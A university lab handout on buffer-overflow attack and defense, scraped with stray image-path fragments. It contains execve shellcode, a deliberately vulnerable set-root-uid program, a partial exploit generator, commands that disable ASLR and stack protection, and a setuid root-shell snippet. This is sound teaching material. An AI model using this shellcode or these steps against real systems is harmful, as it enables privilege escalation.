Homework 2: Buffer Overflow Vulnerability Attack and Defense Lab


5/5 - (3 votes)

CSCE 465 Computer and Network Security 1
Homework 2:
Buffer Overflow Vulnerability Attack and Defense Lab
1 Lab Overview
The learning objective of this lab is for students to gain the first-hand experience on buffer-overflow vulnerability by putting what they have learned about the vulnerability from class into actions. Buffer overflow is
defined as the condition in which a program attempts to write data beyond the boundaries of pre-allocated
fixed length buffers. This vulnerability can be utilized by a malicious user to alter the flow control of the
program, even execute arbitrary pieces of code. This vulnerability arises due to the mixing of the storage
for data (e.g. buffers) and the storage for controls (e.g. return addresses): an overflow in the data part can
affect the control flow of the program, because an overflow can change the return address.
In this lab, students will be given a program with a buffer-overflow vulnerability; their taskis to develop
a scheme to exploit the vulnerability and finally to gain the root privilege. In addition to the attacks, students
will be guided to walk through several protection schemes that have been implemented in Linux to counter
against the buffer-overflow attacks. Students need to evaluate whether the schemes work or not and explain
2 Lab Tasks
2.1 Initial setup
In this lab, you need to use VMware player and a Linux virtual machine image (e.g., Ubuntu Linux) as
you used in the previous homework.
You can execute the lab tasks using the Ubuntu system we have provided (although the lab should work
for many Linux distributions, we recommend you to use Ubuntu as we have tested the lab on it). Ubuntu
and several other Linux-based systems uses address space randomization to randomize the starting address
of heap and stack. This makes guessing the exact addresses difficult; guessing addresses is one of the critical
steps of buffer-overflow attacks. In this lab, you can disable these features using the following commands:
$ su root
Password: (enter root password)
#sysctl -w kernel.randomize_va_space=0
Moreover, to further protect against buffer overflow attacks and other attacks that use shell programs,
many shell programs automatically drop their privileges when invoked. Therefore, even if you can “fool”
a privileged Set-UID program to invoke a shell, you might not be able to retain the privileges within the
shell. This protection scheme is implemented in /bin/bash. In Ubuntu, /bin/sh is actually a symbolic
link to /bin/bash. To see the life before such protection scheme was implemented, we use another shell
program (the zsh), instead of /bin/bash. The preconfigured Ubuntu virtual machines already contains
a zsh installation.
The followinginstructions describe howto link the zsh program to /bin/sh.
# cd /bin
# rm sh
# ln -s /bin/zsh /bin/sh
CSCE 465 Computer and Network Security 2
Furthermore, the GCC compiler implements a security mechanism called ”Stack Guard” to prevent
buffer overflows. In the presence of this protection, buffer overflow will not work. You can disable this protection when you are comiling the program using the switch -fno-stack-protector. For example, to compile
a program example.c with Stack Guard disabled, you may use the following command:
gcc -fno-stack-protector example.c
Possible X-Server Errors Some task in this lab needs to change /bin/sh, making it pointing to /bin/zsh
(originally, it points to /bin/bash). If you forget to change it back to bash, you may encounter an X server
error during the system bootup. When this error happens, your X server cannot start, and you can only log
into system in the text mode. To recover from this problem, follow these steps:
1. Login as root in the command prompt. When the X server error happens, the system will let you loginto the root (you need to know the root password) in the text mode.
2. Execute the following commands (# is the prompt for root user, do not enter the #).
# mount -o remount /
# cd /bin
# rm sh
# ln -s bash sh
Our goal is to change/bin/sh and let it point back to /bin/bash. However, if we login as a root
at that time, we only have a read-only file system. We need to remount the whole file system to be able to
3. Reboot the system. The X Server error should go away.
2.2 Shellcode
Before you start the attack, you need a shellcode. A shellcode is the code to launch a shell. It has to be
loaded into the memory so that we can force the vulnerable program to jump to it. Consider the following
#include <stdio.h>
int main( ) {
char *name[2];
name[0] = ‘‘/bin/sh’’;
name[1] = NULL;
execve(name[0], name, NULL);
The shellcode that we use is just the assembly version of the above program. The following program
shows you how to launch a shell by executing a shellcode stored in a buffer. Please compile and run the
following code, and see whether a shell is invoked.
/* call_shellcode.c */
/*A program that creates a file containing code for launching shell*/
#include <stdlib.h>
CSCE 465 Computer and Network Security 3
#include <stdio.h>
const char code[] =
“\x31\xc0” /* Line 1: xorl %eax,%eax */
“\x50” /* Line 2: pushl %eax */
“\x68″”//sh” /* Line 3: pushl $0x68732f2f */
“\x68″”/bin” /* Line 4: pushl $0x6e69622f */
“\x89\xe3” /* Line 5: movl %esp,%ebx */
“\x50” /* Line 6: pushl %eax */
“\x53” /* Line 7: pushl %ebx */
“\x89\xe1” /* Line 8: movl %esp,%ecx */
“\x99” /* Line 9: cdql */
“\xb0\x0b” /* Line 10: movb $0x0b,%al */
“\xcd\x80” /* Line 11: int $0x80 */
int main(int argc, char **argv)
char buf[sizeof(code)];
strcpy(buf, code);
((void(*)( ))buf)( );
A few places in this shellcode are worth mentioning. First, the third instruction pushes “//sh”, rather
than “/sh” into the stack. This is because we need a 32-bit number here, and “/sh” has only 24 bits. Fortunately, “//” is equivalent to “/”, so we can get away with a double slash symbol. Second, before calling the
execve() system call, we need tostore name[0] (the address of the string), name (the address of the
array), and NULL to the %ebx, %ecx, and %edx registers, respectively. Line 5 stores name[0] to %ebx;
Line 8 stores name to %ecx; Line 9 sets %edx to zero. There are other ways to set %edx to zero (e.g.,
xorl %edx, %edx); the one (cdql) used here is simply a shorter instruction. Third, the system call
execve() is called when we set %al to 11, and execute “int $0x80”.
2.3 The Vulnerable Program
/* stack.c */
/* This program has a buffer overflow vulnerability. */
/* Our task is to exploit this vulnerability */
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
int bof(char *str)
char buffer[12];
/* The following statement has a buffer overflow problem */
strcpy(buffer, str);
CSCE 465 Computer and Network Security 4
return 1;
int main(int argc, char **argv)
char str[517];
FILE *badfile;
badfile = fopen(“badfile”, “r”);
fread(str, sizeof(char), 517, badfile);
printf(“Returned Properly\n”);
return 1;
Compile the above vulnerable program and make it set-root-uid. You can achieve this by compiling it in
the root account, and chmod the executable to 4755:
$ su root
Password (enter root password)
# gcc -o stack -fno-stack-protector stack.c
# chmod 4755 stack
# exit
The above program has a buffer overflow vulnerability. It first reads an input from a file called “badfile”,
and then passes this input to another buffer in the function bof(). The original input can have a maximum
length of 517 bytes, but the buffer in bof() has only 12 bytes long. Because strcpy() does not checkboundaries, buffer overflow will occur. Since this program is a set-root-uid program, if a normal user can
exploit this buffer overflow vulnerability, the normal user might be able to get a root shell. It should be
noted that the program gets its input from a file called “badfile”. This file is under users’ control. Now, our
objective is to create the contents for “badfile”, such that when the vulnerable program copies the contents
into its buffer, a root shell can be spawned.
2.4 Task 1: Exploiting the Vulnerability
We provide you with a partially completed exploit code called “exploit.c”. The goal of this code is to
construct contents for “badfile”. In this code, the shellcode is given to you. You need to develop the rest.
/* exploit.c */
/* A program that creates a file containing code for launching shell*/
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
char shellcode[]=
“\x31\xc0” /* xorl %eax,%eax*/
“\x50” /* pushl %eax */
CSCE 465 Computer and Network Security 5
“\x68″”//sh” /* pushl $0x68732f2f */
“\x68″”/bin” /* pushl$0x6e69622f */
“\x89\xe3” /* movl %esp,%ebx */
“\x50” /* pushl %eax */
“\x53” /* pushl %ebx */
“\x89\xe1” /* movl %esp,%ecx */
“\x99” /* cdql */
“\xb0\x0b” /* movb $0x0b,%al */
“\xcd\x80” /* int $0x80 */
void main(int argc, char **argv)
char buffer[517];
FILE *badfile;
/* Initialize buffer with 0x90 (NOP instruction) */
memset(&buffer, 0x90, 517);
/* You need to fill the buffer withappropriate contents here */
/* Save the contents to the file “badfile” */
badfile = fopen(“./badfile”, “w”);
fwrite(buffer, 517, 1, badfile);
After you finish the above program, compile and run it. This will generate the contents for “badfile”.
Then run the vulnerable program stack. If your exploit is implemented correctly, you should be able to
get a root shell:
Important: Please compile your vulnerable program first. Please note that the program exploit.c, which
generates the bad file, can be compiled with the default Stack Guard protection enabled. This is because we
are not going to overflow the buffer in this program. We will be overflowing the buffer in stack.c, which is
compiled with the default Stack Guard protection disabled.
$ gcc -o exploit exploit.c
$./exploit // create the badfile
$./stack // launch the attack by running the vulnerable program
# <—- Bingo! You’ve got a root shell!
It should be noted that although you have obtained the “#” prompt, your real user id is still yourself (the
effective user id is now root). You can check this by typing the following:
# id
uid=(500) euid=0(root)
CSCE 465 Computer and Network Security 6
Many commands will behave differently if they are executed as Set-UID root processes, instead of
just as root processes, because they recognize that the real user id is not root. To solve this problem,
you can run the following program to turn the real user id to root. This way, you will have a real rootprocess, which is more powerful.
void main()
setuid(0); system(“/bin/sh”);
2.5 Task 2: Protection in /bin/bash
Now, we let /bin/sh point back to /bin/bash, and run the same attack developed in the previous task.
Can you get a shell? Is the shell the root shell? What has happened? You should describe your observation
and explaination in your lab report.
$ su root
Password: (enter root password)
# cd /bin
# rm sh
# ln -s bash sh // link /bin/sh to /bin/bash
# exit
$./stack // launch the attack by running the vulnerable program
There are ways to get around this protection scheme. You need to modify the shellcode to achieve
this. We will give 10 bonus points for this attack. Hint: although /bin/bash has restriction on running
Set-UID programs, it does allow the real root to run shells. Therefore, if you can turn the current Set-UID
process into a real root process, before invoking /bin/bash, you can bypass the restriction of bash.
The setuid() system call can help you achieve that.
2.6 Task 3: Address Randomization
Now, we turn on the Ubuntu’s address randomization.We run the same attack developed in Task 1. Can
you get a shell? If not, what is the problem? How does the address randomization make your attacks
difficult? You should describe your observation and explanation in your lab report. You can use the following
instructions to turn on the address randomization:
$ su root
Password: (enter root password)
# /sbin/sysctl -w kernel.randomize_va_space=2
If running the vulnerable code once does not get you the root shell, how about running it for many
times? You can run ./stack in the following loop , and see what will happen. If your exploit program
is designed properly, you should be able to get the root shell after a while. You can modify your exploit
program to increase the probability of success (i.e., reduce the time that you have to wait).
$ sh-c “while [ 1 ]; do ./stack; done;”
CSCE 465 Computer and Network Security 7
2.7 Task 4: Stack Guard
So far, we disabled the “Stack Guard” protection mechanism in GCC when compiling the programs. In this
task, you may consider repeating task 1 in the presence of Stack Guard. To do that, you should compile the
program without the -fno-stack-protector’ option. For this task, you will recompile the vulnerable program,
stack.c, to use GCC’s Stack Guard, execute task 1 again, and report your observations. You may report any
error messages you observe.
In the GCC 4.3.3 and newer versions, Stack Guard is enabled by default. Therefore, you have to disable
Stack Guard using the switch mentioned before. In earlier versions, it was disabled by default. If you use a
older GCC version, you may not have to disable Stack Guard.
3 Guidelines
We can load the shellcode into “badfile”, but it will not be executed because our instruction pointer will not
be pointing to it. One thing we can do is to change the return address to point to the shellcode. But we havetwo problems: (1) we do not know where the return address is stored, and (2) we do not know where the
shellcode is stored. To answer these questions, we need to understand the stack layout the execution enters
a function. The following figure gives an example.
str (a pointer to a string)
Return Address
Previous Frame Pointer (FP)
buffer[0] … buffer[11]
void func (char *str) {
char buffer[12];
int variable_a;
strcpy (buffer, str);
Int main() {
char *str = “I am greater than 12 bytes”;func (str);
Current Frame
Current FP
(a) A code example (b) Active Stack Frame in func()
High Address
Low Address
Finding the address of the memory that stores the return address. From the figure, we know, if we
can find out the address of buffer[] array, we can calculate where the return address is stored. Since
the vulnerable program is a Set-UID program, you can make a copy of this program, and run it with your
own privilege; this way you can debug the program (note that you cannot debug a Set-UID program).In the debugger, you can figure out the address of buffer[], and thus calculate the starting point of the
malicious code. You can even modify the copied program, and ask the program to directly print out the
address of buffer[]. The address of buffer[] may be slightly different when you run the Set-UID
copy, instead of of your copy, but you should be quite close.
If the target program is running remotely, and you may not be able to rely on the debugger to find out
the address. However, you can always guess. The following facts make guessing a quite feasible approach:
• Stack usually starts at the sameaddress.
• Stack is usually not very deep: most programs do not push more than a few hundred or a few thousand
bytes into the stack at any one time.
CSCE 465 Computer and Network Security 8
• Therefore the range of addresses that we need to guess is actually quite small.
Finding the starting point of the malicious code. If you can accurately calculate the address of buffer[],
